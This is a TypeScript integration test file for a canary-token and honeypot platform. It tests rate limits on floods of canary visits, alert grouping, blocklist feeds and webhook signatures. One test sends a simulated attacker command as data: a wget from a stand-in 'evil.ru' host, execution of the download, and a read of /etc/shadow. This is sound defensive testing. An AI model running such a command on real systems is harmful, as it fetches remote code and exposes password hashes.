import type {
  Alert,
  AlertDetail,
  CanaryHit,
  CanaryTokenDetail,
  FeedExplanation,
  Indicator,
  Page,
} from '@eviltwin/contract'
import pg from 'pg'
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
import { startTestPlatform, type TestPlatform } from '../../testing/test-platform.js'
import { until } from '../../testing/until.js'
import { signatureOf } from './signature.js'

const WINDOW_MS = 15 * 60_000
const MINUTE_MS = 60_000
const environment = {
  // So that each visit may say whose it is.
  TRUST_PROXY: '127.0.0.1',
  CANARY_VISITS_PER_TOKEN: '20',
  CANARY_VISITS_PER_ADDRESS: '5',
  CANARY_WEBHOOK_SECRET: 'a canary webhook secret',
}

describe.each(inject('postgresServers'))('floods of canary visits on $version', (server) => {
  let api: TestPlatform
  let database: pg.Client
  let token: string
  // More than the clock of the database corrects: it would set the time right again.
  let passed = 11 * MINUTE_MS
  /** Access tokens expire meanwhile. */
  async function pass(milliseconds: number): Promise<void> {
    passed += milliseconds
    token = await api.login()
  }
  beforeAll(async () => {
    // Stands still within a test: no minute ends while visits are under way.
    const start = Date.now()
    api = await startTestPlatform(server, { environment, now: () => start + passed })
    token = await api.login()
    database = new pg.Client({ connectionString: api.databaseUrl })
    await database.connect()
  })
  afterAll(async () => {
    await database.end()
    await api.close()
  })

  const get = async <Answer>(path: string) => (await (await api.call(path, { as: token })).json()) as Answer
  async function create(kind = 'link', name = 'a decoy'): Promise<CanaryTokenDetail> {
    const body = JSON.stringify({ kind, name })
    const response = await api.call('/canary/tokens', { method: 'POST', as: token, body })
    return (await response.json()) as CanaryTokenDetail
  }
  const visit = ({ url }: CanaryTokenDetail, from: string, init: RequestInit = {}) =>
    api.call(new URL(url).pathname, { ...init, headers: { 'x-forwarded-for': from } })
  const moment = () => new Date().toISOString()
  const address = (n: number) => `45.9.${Math.floor(n / 250)}.${n % 250}`
  /** @returns the distinct answers, as status and body. */
  async function visitTimes(detail: CanaryTokenDetail, count: number, from: (n: number) => string) {
    const answers = await Promise.all(Array.from({ length: count }, (_, n) => visit(detail, from(n))))
    const texts = await Promise.all(
      answers.map(async (answer) => {
        const headers = [...answer.headers].filter(([name]) => name !== 'date')
        return JSON.stringify([answer.status, headers, await answer.text()])
      }),
    )
    return new Set(texts)
  }
  const rows = async (table: string, { sensor_id }: CanaryTokenDetail) => {
    const { rowCount } = await database.query(`SELECT 1 FROM ${table} WHERE sensor_id = $1`, [sensor_id])
    return rowCount
  }
  const alertsOf = ({ sensor_id }: CanaryTokenDetail) =>
    get<Page<Alert>>(`/alerts?sensor_id=${sensor_id}`).then(({ items }) => items)
  const alertedTimes = (detail: CanaryTokenDetail, occurrences: number) =>
    until(async () => {
      const alerts = await alertsOf(detail)
      const counted = alerts.reduce((sum, { occurrence_count }) => sum + occurrence_count, 0)
      return counted >= occurrences && alerts
    })
  const beyondLimit = (detail: CanaryTokenDetail, count: number) =>
    until(async () => {
      const { visits_beyond_limit } = await get<CanaryTokenDetail>(`/canary/tokens/${detail.id}`)
      return visits_beyond_limit === count && visits_beyond_limit
    })

  test('400 addresses that visit one URL are one alert, bounded events, an exact count, and no entry of a feed', async () => {
    const detail = await create()
    const answers = await visitTimes(detail, 400, address)
    expect(answers.size).toBe(1)
    expect(await rows('events', detail)).toBe(20)
    expect(await rows('sessions', detail)).toBe(20)
    expect(await beyondLimit(detail, 380)).toBe(380)
    const [alert, ...others] = await alertedTimes(detail, 20)
    expect(others).toEqual([])
    expect(alert).toMatchObject({ occurrence_count: 20, source_count: 20, kind: 'canary' })
    const { sources } = await get<AlertDetail>(`/alerts/${alert?.id}`)
    expect([sources.length, new Set(sources).size, sources[0]]).toEqual([20, 20, alert?.source_ip])
    const metrics = await (await api.call('/metrics')).text()
    expect(metrics).toContain('eviltwin_canary_visits_beyond_limit_total 380')
    for (const path of ['/feeds/blocklist.txt?threat_level=low', '/feeds/iocs?format=json&threat_level=low'])
      expect(await (await api.call(path, { as: token })).text()).not.toContain('45.9.')
    const explained = await get<FeedExplanation>(`/feeds/explain?value=${alert?.source_ip}`)
    expect(explained).toMatchObject({ listed: false, indicator: { context: true, sensor_count: 0 } })
    const iocs = await get<Indicator[]>(`/sessions/${alert?.session_id}/iocs?format=json`)
    expect(JSON.stringify(iocs)).toContain('"context":true')
    const page = await get<Page<Alert>>(`/alerts?src_ip=${sources.at(-1)}`)
    expect(page.items.map(({ id }) => id)).toEqual([alert?.id])
    const hits = await get<Page<CanaryHit>>(`/canary/tokens/${detail.id}/hits?limit=100`)
    expect(hits.items).toHaveLength(20)
  })

  test('a visitor of a canary is listed once a sensor saw it attack, and by that sensor alone', async () => {
    const from = '45.9.148.20'
    const blocklist = async () => (await api.call('/feeds/blocklist.txt', { as: token })).text()
    for (const detail of [await create(), await create()]) await visit(detail, from)
    await api.send(
      JSON.stringify({ source_ip: from, session: 's', command: 'uptime', occurred_at: moment() }),
    )
    expect(await blocklist()).not.toContain(from)
    const command = 'wget http://evil.ru/x; chmod 777 x; ./x; cat /etc/shadow; crontab -l'
    await api.send(JSON.stringify({ source_ip: from, session: 't', command, occurred_at: moment() }))
    expect(await blocklist()).toContain(from)
    const explained = await get<FeedExplanation>(`/feeds/explain?value=${from}`)
    expect(explained).toMatchObject({ listed: true, indicator: { sensor_count: 1, key_count: 1 } })
  })

  test('one address writes few events, and is still seen at another token at once', async () => {
    await pass(MINUTE_MS)
    const [flooded, other] = [await create(), await create()]
    const from = '2001:db8:1:2::1'
    expect((await visitTimes(flooded, 300, (n) => `2001:db8:1:2::${(n + 1).toString(16)}`)).size).toBe(1)
    expect(await rows('events', flooded)).toBe(5)
    await visit(other, from)
    expect(await alertedTimes(other, 1)).toMatchObject([{ source_ip: from, occurrence_count: 1 }])
  })

  test('a token that was flooded is one alert for a window, and another one after it', async () => {
    await pass(MINUTE_MS)
    const detail = await create()
    await visitTimes(detail, 40, address)
    await alertedTimes(detail, 20)
    await pass(WINDOW_MS - MINUTE_MS)
    await visit(detail, '198.51.100.7')
    expect(await alertedTimes(detail, 21)).toHaveLength(1)
    await pass(MINUTE_MS + 1_000)
    await visit(detail, '198.51.100.7')
    const [newest, ...older] = await alertedTimes(detail, 22)
    expect(older).toHaveLength(1)
    expect(newest).toMatchObject({ source_ip: '198.51.100.7', occurrence_count: 1, source_count: 1 })
  })

  test('a resolved alert takes no further visits', async () => {
    await pass(MINUTE_MS)
    const detail = await create()
    await visit(detail, '198.51.100.8')
    const [alert] = await alertedTimes(detail, 1)
    const body = JSON.stringify({ state: 'resolved' })
    await api.call(`/alerts/${alert?.id}`, { method: 'PATCH', as: token, body })
    await visit(detail, '198.51.100.8')
    expect((await alertedTimes(detail, 2)).map(({ state }) => state)).toEqual(['open', 'resolved'])
  })

  test('the webhook of another system is limited, and each of its canaries alerts', async () => {
    await pass(MINUTE_MS)
    const detail = await create('canarytokens', 'payroll')
    const report = (memo: string, n: number) =>
      api.call(new URL(detail.url).pathname, {
        method: 'POST',
        body: JSON.stringify({
          manage_url: 'http://192.0.2.1/manage',
          memo,
          token: memo,
          token_type: 'web',
          channel: 'HTTP',
          src_ip: address(n),
          time: new Date(Date.now() + n).toISOString(),
        }),
      })
    const answers = await Promise.all(Array.from({ length: 100 }, (_, n) => report('one', n)))
    const statuses = await Promise.all(answers.map((answer) => answer.json() as Promise<{ status: string }>))
    expect(statuses.filter(({ status }) => status === 'processed')).toHaveLength(20)
    expect(statuses.filter(({ status }) => status === 'counted')).toHaveLength(80)
    await report('two', 200)
    const alerts = await alertedTimes(detail, 21)
    expect(alerts.map(({ occurrence_count }) => occurrence_count).sort()).toEqual([1, 20])
    expect(await beyondLimit(detail, 80)).toBe(80)
  })

  test('signed messages beyond the limit of a minute are answered 429 with when to send again, and are taken then', async () => {
    await pass(MINUTE_MS)
    const send = (memo: string, n: number) => {
      const body = JSON.stringify({
        memo,
        src_ip: address(n),
        timestamp: new Date(Date.now() + passed).toISOString(),
        n,
      })
      const signature = signatureOf(Buffer.from(body), environment.CANARY_WEBHOOK_SECRET)
      return api.call('/canary/webhook', {
        method: 'POST',
        body,
        headers: { 'x-canary-signature': signature },
      })
    }
    const answers = await Promise.all(Array.from({ length: 30 }, (_, n) => send('share', n)))
    expect(answers.filter(({ status }) => status === 200)).toHaveLength(20)
    const refused = answers.filter(({ status }) => status === 429)
    expect(refused.map(({ headers }) => headers.get('retry-after'))).toEqual(Array(10).fill('60'))
    for (const answer of refused)
      expect(await answer.json()).toMatchObject({
        type: '/problems/too-many-requests',
        detail: expect.stringContaining('send it again'),
      })
    // Another canary of that system is within the limits: its first message of the minute.
    expect((await send('another share', 0)).status).toBe(200)
    // What is not signed is refused as that, and counts for nothing.
    const forged = await api.call('/canary/webhook', {
      method: 'POST',
      body: '{}',
      headers: { 'x-canary-signature': 'sha256=00' },
    })
    expect([forged.status, forged.headers.get('retry-after')]).toEqual([401, null])
    await pass(MINUTE_MS)
    expect((await send('share', 30)).status).toBe(200)
  })

  test('there are so many tokens and no more, and each is recognised', async () => {
    const first = await create()
    await database.query(`INSERT INTO canary_tokens (id, kind, name, enabled, sensor_id, token_hash, sealed_token, created_by, created_at)
      SELECT gen_random_uuid(), 'link', 'many', true, 'many-' || n, sha256(n::text::bytea), '', 'x', now() + interval '1 day'
      FROM generate_series(1, 10000 - (SELECT count(*)::integer FROM canary_tokens)) n`)
    const body = JSON.stringify({ kind: 'link', name: 'one more' })
    expect((await api.call('/canary/tokens', { method: 'POST', as: token, body })).status).toBe(409)
    await pass(MINUTE_MS)
    await visit(first, '198.51.100.9')
    expect(await alertedTimes(first, 1)).toHaveLength(1)
    await database.query(`DELETE FROM canary_tokens WHERE name = 'many'`)
  })

  test('canary events by a sensor key join one alert of their sensor, whatever they say', async () => {
    const events = Array.from({ length: 500 }, (_, n) => ({
      source_ip: address(n),
      session: `${n}`,
      sensor_id: 'canaries-of-a-key',
      event_type: 'canary',
      message: `text ${n}`,
      occurred_at: new Date(Date.now() + n).toISOString(),
    }))
    await api.send(JSON.stringify(events))
    const alerts = await alertedTimes({ sensor_id: 'canaries-of-a-key' } as CanaryTokenDetail, 500)
    expect(alerts).toMatchObject([{ occurrence_count: 500, source_count: 500 }])
    const { sources } = await get<AlertDetail>(`/alerts/${alerts[0]?.id}`)
    expect(sources).toHaveLength(20)
  })
})
